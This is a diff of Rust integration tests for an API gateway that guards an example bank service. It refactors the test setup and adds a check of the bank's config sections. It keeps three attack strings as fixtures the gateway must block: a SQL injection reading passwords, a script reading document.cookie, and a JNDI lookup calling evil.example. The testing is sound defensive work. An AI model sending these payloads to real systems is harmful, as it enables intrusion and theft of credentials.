@@ -10,87 +10,36 @@
 mod requests;
 mod responses;
 
-use std::net::SocketAddr;
-
 use reqwest::Method;
 use serde_json::{Value, json};
 
+// The real bank and the gateway in front of it with the bank's real config
+// (its API's validation, inspection, responses, CORS and authorization kept as
+// they are), as the authorization tests start them.
+use crate::authz::bank::{Setup, setup};
 use crate::support::*;
-
-/// The bank example's directory.
-const BANK: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/bank");
 
 /// A SQL injection, a script and a JNDI lookup: none may reach the bank.
 const SQLI: &str = "1' UNION SELECT password FROM users--";
 const XSS: &str = "<script>alert(document.cookie)</script>";
 const JNDI: &str = "${jndi:ldap://evil.example/a}";
 
-/// The real bank (trusting `X-Portcullis-Subject`) and the gateway in front of
-/// it with the bank's real config.
-struct Setup {
-    bank: SocketAddr,
-    server: tokio::task::JoinHandle<std::io::Result<()>>,
-    gw: Gateway,
-}
-
-impl Drop for Setup {
-    fn drop(&mut self) {
-        self.server.abort();
-    }
-}
-
-/// The bank's `portcullis.yaml` with its addresses, admin token and identity
-/// provider made the test's; its API (spec, validation, inspection, responses,
-/// CORS, authorization) is kept as it is.
-fn bank_config(bank: SocketAddr) -> String {
-    let real = std::fs::read_to_string(format!("{BANK}/portcullis.yaml")).unwrap();
-    let apis = &real[real
-        .find("\napis:\n")
-        .expect("the bank config lists its APIs")
-        + 1..];
-    for section in ["validation", "responses", "cors", "authorization"] {
+#[test]
+fn the_bank_config_enforces_its_contract() {
+    let real =
+        std::fs::read_to_string(format!("{}/portcullis.yaml", crate::authz::bank::BANK)).unwrap();
+    for section in [
+        "validation",
+        "inspection",
+        "responses",
+        "cors",
+        "authorization",
+    ] {
         assert!(
-            apis.contains(&format!("\n    {section}:\n")),
+            real.contains(&format!("\n    {section}:")),
             "the bank config has `{section}`"
         );
     }
-    let apis = apis
-        .replace("spec: openapi.yaml", &format!("spec: {BANK}/openapi.yaml"))
-        .replace(
-            "[policies/bank.cedar]",
-            &format!("[{BANK}/policies/bank.cedar]"),
-        );
-    format!(
-        r#"
-listeners:
-  - address: 127.0.0.1:0
-admin:
-  address: 127.0.0.1:0
-  token: file:admin-token
-audit:
-  file: audit.jsonl
-runtime:
-  watch_config: false
-upstreams:
-  bank:
-    targets: [http://{bank}]
-identity_providers:
-  dev-idp:
-    jwt:
-      issuer: {ISSUER}
-      audiences: [test]
-      algorithms: [ES256]
-      jwks_file: jwks.json
-{apis}"#
-    )
-}
-
-async fn setup() -> Setup {
-    let (bank, server) = portcullis_bank::spawn("127.0.0.1:0".parse().unwrap())
-        .await
-        .unwrap();
-    let gw = gateway_with(&bank_config(bank), &[]).await;
-    Setup { bank, server, gw }
 }
 
 /// Alice, a customer with two accounts.
@@ -109,44 +58,7 @@ fn admin() -> String {
     )
 }
 
-/// Percent-encodes a path, query or cookie value.
-fn enc(s: &str) -> String {
-    let mut out = String::new();
-    for b in s.bytes() {
-        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
-            out.push(char::from(b));
-        } else {
-            out.push_str(&format!("%{b:02X}"));
-        }
-    }
-    out
-}
-
 impl Setup {
-    /// A request through the gateway with a bearer token.
-    fn through(&self, method: Method, path: &str, bearer: &str) -> reqwest::RequestBuilder {
-        client()
-            .request(method, format!("{}{path}", self.gw.url))
-            .bearer_auth(bearer)
-    }
-
-    /// A request to the bank alone, as `subject` (the header it trusts).
-    fn direct(&self, method: Method, path: &str, subject: &str) -> reqwest::RequestBuilder {
-        client()
-            .request(method, format!("http://{}{path}", self.bank))
-            .header("x-portcullis-subject", subject)
-    }
-
-    /// GET on the bank alone: status and JSON.
-    async fn direct_json(&self, path: &str, subject: &str) -> (u16, Value) {
-        let resp = self
-            .direct(Method::GET, path, subject)
-            .send()
-            .await
-            .unwrap();
-        (resp.status().as_u16(), resp.json().await.unwrap())
-    }
-
     /// A JSON request to the bank alone: status and JSON.
     async fn direct_send(
         &self,
